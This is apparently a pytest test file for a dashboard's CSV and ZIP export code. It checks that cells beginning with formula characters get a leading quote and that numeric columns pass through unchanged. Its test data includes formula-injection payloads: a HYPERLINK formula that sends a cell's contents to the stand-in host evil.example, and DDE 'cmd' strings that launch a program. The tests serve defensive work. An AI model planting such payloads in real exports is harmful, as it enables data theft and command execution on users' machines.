import io
import zipfile

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.app.downloads import csv_bytes, zip_bytes
from dashboard.spreadsheet import neutralised_text, spreadsheet_safe

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]
HARMLESS = ["Japan", "", " =not at the start", "U.S.-Japan", "'quoted'", "2024-07-29", "<script>alert(1)</script>"]


@pytest.mark.parametrize(("value", "expected"), HOSTILE)
def test_formula_starts_are_prefixed_with_a_quote(value, expected):
    assert neutralised_text(value) == expected


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_as_it_is(value):
    assert neutralised_text(value) == value


def test_csv_cells_cannot_run_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "title": pd.array([value for value, _ in HOSTILE], dtype="string"),
            "score": pd.array([-0.5, 1.0, -2.0, 0.0, None, 3.5], dtype="Float64"),
            "count": pd.array([-1, 2, 3, 4, 5, 6], dtype="Int64"),
        }
    )
    read_back = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False)
    assert list(read_back["title"]) == [expected for _, expected in HOSTILE]
    assert read_back["count"].tolist() == [-1, 2, 3, 4, 5, 6]
    # Negative numbers are written bare (no quote), an empty score as an empty cell.
    assert read_back["score"].tolist() == ["-0.5", "1", "-2", "0", "", "3.5"]


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_a_table_is_neutralised_cell_by_cell_as_one_text_is(kind):
    values = [value for value, _ in HOSTILE] + HARMLESS + [None]
    table = pa.table({"text": pa.array(values, kind), "n": pa.array(range(len(values)))})
    safe = spreadsheet_safe(table)
    assert safe.column("text").to_pylist() == [None if value is None else neutralised_text(value) for value in values]
    assert safe.column("n") == table.column("n")


@given(st.text())
def test_no_text_cell_of_a_download_starts_a_formula(value):
    cell = spreadsheet_safe(pa.table({"text": [value]})).column("text")[0].as_py()
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell in (value, "'" + value)


def test_zip_holds_each_table_as_a_safe_csv():
    frames = {"articles": pd.DataFrame({"title": ["=HYPERLINK(1)"]}), "quotes": pd.DataFrame({"quote": ["fine"]})}
    with zipfile.ZipFile(io.BytesIO(zip_bytes(frames))) as archive:
        assert archive.namelist() == ["articles.csv", "quotes.csv"]
        articles = archive.read("articles.csv")
    assert articles.startswith("\ufeff".encode()) and articles.endswith(b"\r\n")
    assert pd.read_csv(io.BytesIO(articles), encoding="utf-8-sig")["title"].tolist() == ["'=HYPERLINK(1)"]


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_cells_of_sliced_and_chunked_columns_are_neutralised_each_at_its_place(kind):
    # A slice's cells start at an offset into Arrow's buffers; each chunk has its own.
    values = ["", "=1+1", None, "fine", "-2", "", "@SUM(A1)", "x=y"]
    column = pa.chunked_array([pa.array(values, kind).slice(1, 5), pa.array(values, kind).slice(4), pa.array([], kind)])
    safe = spreadsheet_safe(pa.table({"text": column})).column("text").to_pylist()
    assert safe == [None if value is None else neutralised_text(value) for value in values[1:6] + values[4:]]
